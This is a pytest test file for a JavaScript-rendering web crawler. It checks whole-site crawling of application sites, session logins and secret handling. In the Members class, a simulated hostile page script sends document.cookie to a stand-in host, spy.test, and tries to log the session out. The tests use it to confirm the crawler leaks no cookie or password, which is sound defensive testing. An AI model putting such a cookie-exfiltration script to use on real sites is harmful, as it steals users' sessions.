"""Sites that are applications, crawled: every page of theirs is found and kept, and the others start no browser."""

from __future__ import annotations

import json
import tomllib
from pathlib import Path

import pytest

from lycosa.cli.main import main
from lycosa.settings import from_values
from lycosa.simweb import HandWeb, ServedExchange
from lycosa.simweb.apps import SHELL, put_shop
from lycosa.simweb.http import make_reply
from lycosa.simweb.quotes import PAGES, QUOTES_HOST, put_quotes
from lycosa.store.folder import CrawlFolder
from lycosa.store.read import page_at, response_of_visit
from lycosa.wiring.worker import page_reader

from .. import suites
from ..crawl import evidence
from ..crawl.conftest import HandCrawl
from ..crawl.test_logins import is_known
from ..crawl.test_quotes import WANTED, blocks

pytestmark = pytest.mark.usefixtures("browser_program")
WORDS = "Nobody who has seen the harbour in the morning forgets the colour of its boats, or the noise of the gulls. "
STATISTICS = "<script>window.q = window.q || []; q.push(['visit', Date.now()]);</script>"


APPS = suites.COPIES / "apps"
TALKS = APPS / "talks.min.js"
DATA, JAVASCRIPT = {"Content-Type": "application/json"}, {"Content-Type": "text/javascript"}


# What stands on ordinary pages beside their text.
BESIDE = (
    "",
    f"<script>{'track(1); ' * 300}</script>",
    "<noscript><img src=/pixel.gif></noscript>",
    "<noscript>This map needs JavaScript.</noscript><div id=map></div>",
    f'<script type="application/ld+json">{{"a": "{WORDS * 20}"}}</script>',
    "<iframe src=https://video.example.com/></iframe><div class=ad></div>",
    "<div id=cookies></div><script src=/consent.js></script><my-widget></my-widget>",
)


def article(number: int, count: int) -> str:
    """An ordinary page, with an ordinary amount of script."""
    links = "".join(f'<a href="/page/{other}">Page {other}</a> ' for other in range(count))
    return (
        f"<!doctype html><html><head><title>Page {number}</title>{STATISTICS}<script src=/menu.js></script></head>"
        f"<body>{links}<p>{number}. {WORDS * (2 + number % 9)}</p>{BESIDE[number % len(BESIDE)]}</body></html>"
    )


async def test_an_application_is_crawled_whole_and_ordinary_pages_start_no_browser(
    web: HandWeb, crawl: HandCrawl
) -> None:
    titles = put_shop(web, "shop.test", items=6, per_list=4)
    for host in ("one.test", "two.test"):
        for number in range(20):
            web.page(f"http://{host}/page/{number}", article(number, 20))
    seeds = [web.url("shop.test"), web.url("one.test", "/page/0"), web.url("two.test", "/page/0")]
    await crawl(*seeds, render="auto")
    rows = {row["url"]: row for row in crawl.rows() if row["outcome"] in ("stored", "duplicate")}
    shop = {path: rows[web.url("shop.test", path)] for path in titles}
    assert {path: row["title"] for path, row in shop.items()} == titles
    assert {row["outcome"] for row in shop.values()} == {"stored"}, "what the browser shows is compared, not the shell"
    assert {row["rendered"] for row in shop.values()} == {"whole"}
    assert all("made by hand" in row["text"] for path, row in shop.items() if path.startswith("/item"))
    ordinary = [row for row in rows.values() if row["host"] != "shop.test"]
    assert len(ordinary) == 40
    assert [row["url"] for row in ordinary if row["rendered"]] == []
    # The page itself once, its script once for all of them, its data for each.
    paths = [request.path for request in web.requests if request.host == "shop.test"]
    assert [paths.count(path) for path in titles] == [1] * len(titles)
    assert paths.count("/assets/app.js") == 1
    assert all(paths.count(f"/api/item/{number}.json") == 1 for number in range(1, 7))
    assert not [path for path in paths if path.startswith("/assets") and path != "/assets/app.js"]
    _is_kept_beside_the_response(crawl.folder, web.url("shop.test", "/item/2"))
    _is_read_again_after_a_crash(crawl, web.url("shop.test", "/item/2"))


def _is_kept_beside_the_response(folder: Path, url: str) -> None:
    version = page_at(CrawlFolder(folder), url)
    assert version
    response = response_of_visit(CrawlFolder(folder), version.visit)
    assert response
    assert response.rendering
    assert response.body.decode() == SHELL
    assert b"<h1>Basket number 2</h1>" in response.rendering.html
    kinds = evidence.record_kinds(folder)
    assert kinds[url] == ["response", "request", "conversion"]
    assert kinds[url.replace("/item/2", "/api/item/2.json")] == ["resource"]


def _is_read_again_after_a_crash(crawl: HandCrawl, url: str) -> None:
    from lycosa.inspect.opened import folder_settings

    folder = CrawlFolder(crawl.folder)
    settings = folder_settings(folder)
    version = page_at(folder, url)
    assert version
    response = response_of_visit(folder, version.visit)
    assert response
    page, links = page_reader(settings, folder)(version.visit, response)
    assert page.text == version.text
    assert [target.rpartition("/")[2] for target in links.targets] == ["1"]


async def test_a_rendered_page_is_shown_by_the_commands(
    web: HandWeb, crawl: HandCrawl, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    put_shop(web, "shop.test", items=1)
    web.page("http://plain.test/", "<p>" + WORDS)
    shop, plain = web.url("shop.test", "/item/1"), web.url("plain.test")
    await crawl(shop, plain, render="auto", max_depth=0)
    folder = ["--folder", str(crawl.folder)]
    assert main(["page", shop, "--rendered", *folder]) == 0
    assert b"<h1>Basket number 1</h1>" in capsysbinary.readouterr().out
    assert main(["page", plain, "--rendered", *folder]) == 2
    assert b"it was not rendered" in capsysbinary.readouterr().err
    assert main(["why", shop, *folder]) == 0
    assert b"empty element where scripts put the page" in capsysbinary.readouterr().out
    assert main(["why", plain, *folder]) == 0
    assert b"it was read as it was fetched" in capsysbinary.readouterr().out


def put_talks(web: HandWeb) -> dict[str, str]:
    """An application built with Vue: one file that has all of it. The title of each page, by its URL."""
    shell = '<!doctype html><html><body><div id="app"></div><script src="/talks.js"></script></body></html>'
    talks = [{"id": number, "title": f"Talk number {number}"} for number in range(1, 5)]
    web.page("http://talks.test/talks.js", TALKS.read_bytes(), headers=JAVASCRIPT)
    web.page("http://talks.test/api/talks.json", json.dumps(talks), headers=DATA)
    titles = {web.page("http://talks.test/", shell): "Talks"}
    for talk in talks:
        said = talk | {"summary": f"{WORDS}{talk['id']}"}
        web.page(f"http://talks.test/api/talk/{talk['id']}.json", json.dumps(said), headers=DATA)
        titles[web.page(f"http://talks.test/talk/{talk['id']}", shell)] = f"Talk {talk['id']}"
    return titles


def put_plants(web: HandWeb) -> dict[str, str]:
    """An application built with React and Vite: modules, one of which is loaded by pages that need it."""
    built = APPS / "plants" / "built"
    shell = (built / "index.html").read_text()
    web.page("http://plants.test/assets/index.js", suites.read(built / "index.js.xz"), headers=JAVASCRIPT)
    web.page("http://plants.test/assets/plant.js", (built / "plant.js").read_bytes(), headers=JAVASCRIPT)
    web.page("http://plants.test/assets/index.css", "body { color: #222 }", headers={"Content-Type": "text/css"})
    plants = [{"id": number, "name": f"Plant number {number}"} for number in range(1, 4)]
    web.page("http://plants.test/api/plants.json", json.dumps(plants), headers=DATA)
    titles = {web.page("http://plants.test/", shell): "Plants"}
    for plant in plants:
        said = plant | {"text": f"{WORDS}{plant['id']}"}
        web.page(f"http://plants.test/api/plant/{plant['id']}.json", json.dumps(said), headers=DATA)
        titles[web.page(f"http://plants.test/plant/{plant['id']}", shell)] = str(plant["name"])
    return titles


async def test_applications_built_with_frameworks_are_crawled_whole(web: HandWeb, crawl: HandCrawl) -> None:
    titles = put_talks(web) | put_plants(web)
    await crawl(web.url("talks.test"), web.url("plants.test"), render="auto")
    rows = {row["url"]: row for row in crawl.rows() if row["outcome"] == "stored"}
    assert {url: row["title"] for url, row in rows.items()} == titles
    assert {row["rendered"] for row in rows.values()} == {"whole"}
    assert all(WORDS + url[-1] in row["text"] for url, row in rows.items() if not url.endswith("/"))
    asked = [request.path for request in web.requests]
    assert [asked.count(path) for path in ("/talks.js", "/assets/index.js", "/assets/plant.js")] == [1, 1, 1]


class Members:
    """A site that is an application, and for members: whoever is not known is sent to a form."""

    FORM = "<form method=post action=/login><input name=user><input type=password name=password></form>"
    # It is told what it may see, whatever it tries besides: to end the session, to tell others who we are.
    SCRIPT = """
      (async () => {
        await fetch('/logout').catch(() => 0);
        fetch('%s?' + encodeURIComponent(document.cookie)).catch(() => 0);
        const data = await (await fetch('/api' + location.pathname)).json();
        document.title = data.title;
        document.getElementById('app').innerHTML = `<p>${data.text}</p><a href=${data.further}>further</a>`;
      })();
    """

    def __init__(self, web: HandWeb) -> None:
        self.asked: list[str] = []
        self.heard = ""
        self.script = self.SCRIPT % web.url("spy.test")
        web.behave_host("members.test", self.serve)
        web.behave_host("spy.test", self.hear)

    async def hear(self, exchange: ServedExchange) -> None:
        self.heard += exchange.ask.target + str(dict(exchange.ask.headers))
        exchange.reply(make_reply(404, b"", {}))

    async def serve(self, exchange: ServedExchange) -> None:
        ask, html = exchange.ask, {"Content-Type": "text/html"}
        self.asked.append(f"{ask.method} {ask.target}")
        if ask.target == "/login":
            answer = make_reply(200, self.FORM.encode(), html)
            if ask.method == "POST":
                answer = make_reply(303, b"", {"Location": "/", "Set-Cookie": "sid=secretsession; Path=/"})
        elif "sid=secretsession" not in ask.headers.get("cookie", ""):
            answer = make_reply(302, b"", {"Location": "/login"})
        elif ask.target.startswith("/api"):
            number = len(ask.target)
            said = {"title": f"Number {number}", "text": f"For members: {number}", "further": "/x"}
            answer = make_reply(200, json.dumps(said).encode(), {"Content-Type": "application/json"})
        elif ask.target == "/app.js":
            answer = make_reply(200, self.script.encode(), {"Content-Type": "text/javascript"})
        else:
            answer = make_reply(200, SHELL.replace("/assets", "").encode(), html)
        exchange.reply(answer)


async def test_what_a_browser_asks_for_is_asked_as_who_we_are(
    web: HandWeb, crawl: HandCrawl, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Of one crawl: an application for members, and the pages of the tutorial that are made by scripts."""
    monkeypatch.setenv("PASSWORD", "open-sesame")
    members = Members(web)
    put_quotes(web)
    login = {"form": "/login", "user": "me", "password": "env:PASSWORD"}
    (rules,) = blocks("scrapy", "pages")
    site = from_values({"site": {"members.test": {"login": login}, **tomllib.loads(rules)["site"]}}).site
    late = """setTimeout(() => {
      const outer = document.getElementById('app').attachShadow({mode: 'closed'});
      outer.append(document.createElement('div'));
      outer.firstChild.attachShadow({mode: 'open'}).innerHTML = '<p>It is here after all.';
    }, 700)"""
    web.page("http://late.test/", f"<div id=app></div><p>Loading</p><script>{late}</script>")
    seeds = [web.url("members.test"), web.url(QUOTES_HOST, "/js/"), web.url(QUOTES_HOST, "/scroll")]
    seeds.append(web.url("late.test"))
    await crawl(*seeds, site=site, render="auto", render_scrolls=PAGES)
    assert [each.text for each in crawl.pages[web.url("members.test")].css("#app p")] == ["For members: 5"]
    assert crawl.pages[web.url("late.test")].text.startswith("It is here after all"), "some begin with a pause"
    texts = {page.title: page.text for page in crawl.pages.values() if "members.test" in page.url}
    assert {title: text.split("\n")[0] for title, text in texts.items()} == {
        f"Number {number}": f"For members: {number}" for number in (5, 6)
    }
    assert members.asked.count("POST /login") == 1
    assert "GET /logout" not in members.asked
    assert members.heard.count("/robots.txt") == 1
    assert "GET" not in members.heard
    for secret in ("secretsession", "open-sesame"):
        assert secret not in members.heard
        assert not is_known(secret, crawl.folder)
    # A session is no page's, and no cookie of it is seen by scripts.
    items = {page.url: page.items for page in crawl.pages.values() if QUOTES_HOST in page.url}
    assert items.pop(web.url(QUOTES_HOST, "/scroll")) == WANTED
    listed = sorted(items.items(), key=lambda each: each[0].rpartition("page/")[2])
    assert sorted(map(str, (item for _, found in listed for item in found))) == sorted(map(str, WANTED))
